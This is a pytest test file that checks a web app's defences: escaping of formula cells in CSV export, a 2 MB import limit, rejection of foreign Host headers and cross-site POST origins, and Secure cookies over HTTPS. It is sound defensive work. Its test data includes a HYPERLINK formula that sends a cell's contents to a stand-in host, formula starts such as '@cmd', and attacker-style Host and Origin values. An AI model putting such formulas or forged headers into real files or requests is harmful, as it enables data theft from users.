"""Requests refused at the door: foreign Host names, cross-site POSTs, oversized imports; safe CSV; HTTPS cookies."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select

from companion import create_app
from companion.config import Settings
from companion.extensions import db
from companion.models import Match
from companion.web import hardening
from tests.helpers import (
    ADDRESS_KEY,
    HTMX,
    csrf_token,
    ref,
    stored_matches,
    topic_file,
    upload,
)

SAME_ON_EVERY_DATABASE = "requests refused at the door (hosts, origins, sizes) and the CSV's cells"

HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'


def fresh_app(tmp_path, database_url):
    """An app built now, so that it reads the environment the test has set."""
    config = {"TESTING": True, "SQLALCHEMY_DATABASE_URI": database_url, "SECRET_KEY": ADDRESS_KEY}
    return create_app(config, instance_path=str(tmp_path / "instance"))


# --- CSV export -----------------------------------------------------------------------------


def test_csv_export_writes_formulas_as_text(client, app):
    names = [HYPERLINK, "+SUM(A1:A9)", "-2+3", "@cmd", "Ann"]
    assert upload(client, json.dumps(topic_file(names)).encode()).status_code == 302
    lines = list(csv.reader(io.StringIO(client.get("/history/export.csv").get_data(as_text=True))))
    sides = [line[4] for line in lines[1:]]
    assert sides == ["'" + HYPERLINK, "'+SUM(A1:A9)", "'-2+3", "'@cmd", "Ann"]
    # Numbers stay numbers, negative ones included: only text is quoted.
    scores = {line[4]: line[5] for line in lines[1:]}
    assert scores["Ann"] == "0" and scores["'" + HYPERLINK] in {"1", "-1"}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-x", "@x", "\tx", "\rx"])
def test_every_formula_start_is_quoted(cell):
    from companion.views.history import spreadsheet_text

    assert spreadsheet_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ann", "O'Neil", "a=b", -3, 0, 12])
def test_other_cells_are_left_as_they_are(cell):
    from companion.views.history import spreadsheet_text

    assert spreadsheet_text(cell) == cell


# --- size limit -----------------------------------------------------------------------------


def test_an_import_over_two_megabytes_is_refused_and_stores_nothing(client, app):
    documents = [topic_file(["Ann", "Bob"], uid=f"m{index}") for index in range(20_000)]
    content = json.dumps(documents).encode()
    assert len(content) > 2 * 1024 * 1024
    response = upload(client, content)
    assert response.status_code == 413
    assert "This file is too large: at most 2 MB." in response.get_data(as_text=True)
    assert stored_matches(app) == 0


def test_the_size_refusal_is_a_banner_message_for_htmx(client, app):
    response = upload(client, b"[" + b" " * (2 * 1024 * 1024) + b"]", **HTMX)
    assert response.status_code == 413
    assert response.headers["HX-Retarget"] == "#banner"
    assert "at most 2 MB" in response.get_data(as_text=True)


def test_a_body_over_the_limit_without_a_length_is_refused_too(client, app):
    # Sent chunked, the size is only found out while the body is read.
    token = csrf_token(client, "/history")
    boundary = "b0undary"
    padding = " " * (3 * 1024 * 1024)
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="h.json"\r\n'
            f"Content-Type: application/json\r\n\r\n[{padding}]\r\n--{boundary}--\r\n").encode()  # fmt: skip
    response = client.post(
        "/history/import",
        input_stream=io.BytesIO(body),
        content_type=f"multipart/form-data; boundary={boundary}",
        headers={"Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},  # as gunicorn marks a chunked body
    )
    assert response.status_code == 413
    assert "This file is too large: at most 2 MB." in response.get_data(as_text=True)
    assert stored_matches(app) == 0


def test_an_import_under_the_limit_is_still_stored(client, app):
    assert upload(client, json.dumps(topic_file(["Ann", "Bob"])).encode()).status_code == 302
    assert stored_matches(app) == 1


# --- Host header ----------------------------------------------------------------------------


def test_a_foreign_host_is_refused_with_a_clear_page(client):
    response = client.get("/", headers={"Host": "rebound.attacker.example"})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "does not answer to the name rebound.attacker.example" in page
    assert "rebound.attacker.example/" not in page, "no link may be built from the foreign name"


def test_a_foreign_host_cannot_post_either(client):
    token = csrf_token(client, "/history")
    response = client.post(
        "/history/import", data={"csrf_token": token}, headers={"Host": "rebound.attacker.example:5000"}
    )
    assert response.status_code == 400
    assert "does not answer to the name" in response.get_data(as_text=True)


def test_the_share_page_of_a_foreign_host_is_refused(client, app):
    assert upload(client, json.dumps(topic_file(["Ann", "Bob"])).encode()).status_code == 302
    with app.app_context():
        match_id = db.session.scalar(select(Match.id))
    for path in (f"/matches/{ref(match_id)}", f"/matches/{ref(match_id)}/share"):
        response = client.get(path, headers={"Host": "rebound.attacker.example"})
        assert response.status_code == 400, path


@pytest.mark.parametrize("host", ["localhost", "localhost:5000", "127.0.0.1:8000"])
def test_the_servers_own_names_are_served(client, host):
    assert client.get("/", headers={"Host": host}).status_code == 200


def test_the_trusted_names_are_loopback_lan_host_name_and_the_environment(monkeypatch):
    monkeypatch.setattr(hardening, "lan_addresses", lambda: ["192.168.1.23", "10.0.0.5"])
    monkeypatch.setattr(hardening, "host_names", lambda: ["laptop", "laptop.local"])
    names = hardening.trusted_hosts(Settings.from_environ({"COMPANION_HOSTS": "companion.club.example, Scores.Lan"}))
    for name in ("localhost", "127.0.0.1", "192.168.1.23", "10.0.0.5", "laptop", "laptop.local"):
        assert name in names
    assert "companion.club.example" in names and "scores.lan" in names


def test_a_name_from_the_environment_is_served(monkeypatch, tmp_path, database_url):
    monkeypatch.setenv("COMPANION_HOSTS", "scores.club.example")
    app = fresh_app(tmp_path, database_url)
    try:
        client = app.test_client()
        assert client.get("/", headers={"Host": "scores.club.example"}).status_code == 200
        assert client.get("/", headers={"Host": "other.example"}).status_code == 400
    finally:
        with app.app_context():
            db.engine.dispose()


# --- Origin of POSTs ------------------------------------------------------------------------


def test_a_post_from_another_site_is_refused(client, app):
    content = json.dumps(topic_file(["Ann", "Bob"])).encode()
    response = upload(client, content, Origin="http://evil.example")
    assert response.status_code == 403
    assert "sent from another site" in response.get_data(as_text=True)
    assert stored_matches(app) == 0


@pytest.mark.parametrize("origin", ["null", "https://localhost", "http://localhost:8000"])
def test_a_post_whose_origin_is_not_exactly_this_server_is_refused(client, app, origin):
    response = upload(client, json.dumps(topic_file(["Ann", "Bob"])).encode(), Origin=origin)
    assert response.status_code == 403
    assert stored_matches(app) == 0


def test_a_post_from_the_page_itself_goes_through(client, app):
    response = upload(client, json.dumps(topic_file(["Ann", "Bob"])).encode(), Origin="http://localhost")
    assert response.status_code == 302
    assert stored_matches(app) == 1


# --- cookies over HTTPS ---------------------------------------------------------------------


@pytest.fixture
def https_client(monkeypatch, tmp_path, database_url):
    """A client of the app as `make run HTTPS=1` builds it, talking HTTPS."""
    monkeypatch.setenv("HTTPS", "1")
    app = fresh_app(tmp_path, database_url)
    yield app.test_client()
    with app.app_context():
        db.engine.dispose()


def test_over_https_every_cookie_is_secure_and_the_session_lax(https_client):
    page = https_client.get("/preferences", base_url="https://localhost")
    session = [c for c in page.headers.getlist("Set-Cookie") if c.startswith("__Host-session=")]
    assert session and "Secure" in session[0] and "SameSite=Lax" in session[0]
    token = csrf_token(https_client, "https://localhost/preferences")
    response = https_client.post(
        "/preferences",
        data={"csrf_token": token, "theme": "dark", "lang": "it"},
        base_url="https://localhost",
        headers={"Origin": "https://localhost"},
    )
    assert response.status_code == 302
    cookies = response.headers.getlist("Set-Cookie")
    assert {c.split("=", 1)[0] for c in cookies} >= {"__Host-theme", "__Host-lang"}
    assert all("; Secure" in cookie for cookie in cookies), cookies


def test_the_pencil_cookie_is_secure_over_https(https_client):
    token = csrf_token(https_client, "https://localhost/matches/new")
    response = https_client.post(
        "/matches/new",
        data={"csrf_token": token, "game": "topic", "seat": ["Ann", "Bob"], "action": "start"},
        base_url="https://localhost",
        headers={"Origin": "https://localhost"},
    )
    pencils = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("__Host-pencil=")]
    assert pencils, (response.status_code, response.headers)
    assert all("; Secure" in cookie for cookie in pencils)


def test_over_http_the_cookies_are_not_secure(client):
    # Phones on plain HTTP would drop a Secure cookie: the pencil would be lost.
    page = client.get("/preferences")
    assert all("Secure" not in cookie for cookie in page.headers.getlist("Set-Cookie"))
